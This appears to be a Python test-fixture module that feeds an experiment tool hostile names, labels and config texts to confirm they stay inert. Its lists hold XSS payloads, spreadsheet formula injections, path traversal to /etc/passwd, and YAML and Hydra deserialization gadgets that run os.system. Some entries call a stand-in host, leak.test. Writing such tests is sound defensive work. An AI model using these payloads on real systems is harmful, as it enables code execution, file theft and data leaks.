"""Names and texts that try to be more than text, and a results folder whose every name is one of them."""

import json
from pathlib import Path

import toy_province

from experiments.store.store import claimed

NAMES = [
    "as_in_2020",
    "<script>alert('ran')</script>",
    '<img src="http://leak.test/a.png" onerror="alert(\'ran\')">',
    '"><svg onload="alert(\'ran\')">',
    "</title><iframe src='http://leak.test/b'>",
    "</style></text><script xmlns='http://www.w3.org/2000/svg'>alert('ran')</script>",
    "javascript:alert('ran')",
    "]]><!--<![CDATA[",
    "{{body}} {{title}} ${x} %(x)s {0}",
    "$x^2$ _a \\frac{1}{2}",
    "_hidden",
    "=HYPERLINK(\"http://leak.test/c\")",
    "+1+1|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1 方案一",
    "b" * 300,
    "../../outside",
    "a\u202eb",
]  # fmt: skip
FORMULAS = [*"=+-@＝＋－＠", "\t", "\r", "\n"]
MARKER = "ran.txt"


def folder_of_hostile_names(folder: Path, replications: int = 3) -> Path:
    """Results of the toy province: scenarios, labels, the question, values and the command are hostile."""
    scenarios = [toy_province.scenario(name, 0.002 * k) for k, name in enumerate(NAMES)]
    toy_province.results(folder, scenarios, replications=replications)
    with claimed(folder, toy_province.TODAY) as store:
        held = store.last_sweep()
        runs = held.pop("runs")
        for case, name in zip(held["cases"], NAMES, strict=True):
            case["label"] = {"en": name, "zh": name}
        hostile = " ".join(NAMES)
        store.keep_sweep(held | {"question": hostile, "words": [hostile, f"sanxiang sweep {hostile}"]}, runs)
    return folder


def codes(marker: Path) -> dict[str, str]:
    """Texts of scenario files that would write a file, were any of them run as code."""
    path, shell = json.dumps(str(marker)), f"touch {marker}"
    return {
        "python apply": f"a: !!python/object/apply:os.system ['{shell}']",
        "python new": f"a: !!python/object/new:subprocess.check_output [['touch', {path}]]",
        "python name": "a: !!python/name:os.system",
        "python module": "a: !!python/module:antigravity",
        "java": '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://leak.test"]]',
        "ruby": "--- !ruby/object:Gem::Installer\ni: x",
        "hydra target": f"_target_: os.system\n_args_: ['{shell}']",
        "hydra target inside": f"name: x\nbase: plan\nlever: {{_target_: os.system, _args_: ['{shell}']}}",
        "hydra call": f"name: x\nbase: plan\nlabel: {{_target_: builtins.open, _args_: [{path}, w]}}",
        "environment": "name: ${oc.env:HOME}\nbase: plan",
        "resolver": f"name: ${{eval:open({path},'w')}}\nbase: plan",
        "base elsewhere": "name: x\nbase: ../../../etc/passwd",
        "name elsewhere": f"name: {path}\nbase: plan",
        "include": f"name: x\nbase: plan\n!include {path}",
    }


WORDS = [
    "_target_=os.system",
    "+hydra.callbacks.x._target_=os.system",
    "hydra.run.dir=../outside",
    "hydra.output_subdir=../outside",
    "scenario=../../outside",
    "experiment=../outside",
    "world=/etc/passwd",
    "executor=../outside",
    "parameters=../outside",
    "hydra/job_logging=x",
    "--config-dir=/",
    "--config-path=/",
    "results=${oc.env:HOME}/outside",
    "lever.rd_subsidy.rate=${eval:1}",
    "searchpath=[file:///]",
]
